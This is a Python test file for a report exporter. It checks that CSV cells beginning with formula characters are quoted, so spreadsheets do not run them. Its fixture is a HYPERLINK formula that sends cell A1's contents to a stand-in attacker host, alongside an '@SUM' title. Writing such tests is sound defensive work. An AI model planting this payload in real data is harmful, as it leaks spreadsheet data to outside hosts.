"""The report's CSV holds no cell a spreadsheet would run: a user name (from an SSO proxy
header, say) or a finding's text starting with a formula character is quoted."""

from __future__ import annotations

import csv
import io

from sqlalchemy.orm import Session

from app.advisor.evaluate import Engine
from app.audit.recorder import ACTOR_KEY
from app.reports import render
from tests.reports.conftest import ReportOf
from tests.reports.factory import make_decision

ACTOR = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_actor_names_that_start_a_formula_are_quoted(
    session: Session, engine: Engine, report_of: ReportOf
) -> None:
    session.info[ACTOR_KEY] = ACTOR
    decision = make_decision(session, engine, title="@SUM(1+1)")
    session.commit()
    rows = list(
        csv.DictReader(io.StringIO(render(report_of(decision), "csv").decode(), newline=""))
    )
    audit = [r for r in rows if r["record"] == "audit"]
    assert audit and {r["actor"] for r in audit} == {"'" + ACTOR}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
